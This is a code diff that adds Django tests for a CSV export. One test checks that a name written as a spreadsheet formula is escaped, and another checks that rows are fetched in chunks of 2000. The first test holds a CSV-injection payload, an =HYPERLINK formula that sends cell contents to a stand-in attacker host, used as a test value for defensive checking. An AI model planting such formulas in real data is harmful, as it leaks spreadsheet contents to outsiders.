@@ -258,3 +258,25 @@ def test_an_export_too_long_to_write_is_refused_with_the_way_out(client, world, 
     page = client.get(response["Location"]).content.decode()
     assert "CSV" in page and "2" in page
     assert len(csv_rows(export(client, world, "commune", export="csv"))) == 3  # heading + 2
+
+
+def test_a_name_written_as_a_formula_stays_text_in_csv(client, world):
+    make_assessment(world, full_name='=HYPERLINK("http://evil.example/?"&A2,"Nguyễn Văn A")')
+    rows = csv_rows(export(client, world, "commune", export="csv"))
+    assert rows[1][0].startswith("'=HYPERLINK(")
+
+
+def test_csv_rows_are_read_in_chunks(client, world, monkeypatch):
+    from django.db.models.query import QuerySet
+
+    make_assessment(world)
+    chunked = []
+    original = QuerySet.iterator
+
+    def iterator(self, chunk_size=None):
+        chunked.append(chunk_size)
+        return original(self, chunk_size=chunk_size)
+
+    monkeypatch.setattr(QuerySet, "iterator", iterator)
+    assert len(csv_rows(export(client, world, "commune", export="csv"))) == 2
+    assert chunked and chunked[-1] == 2000
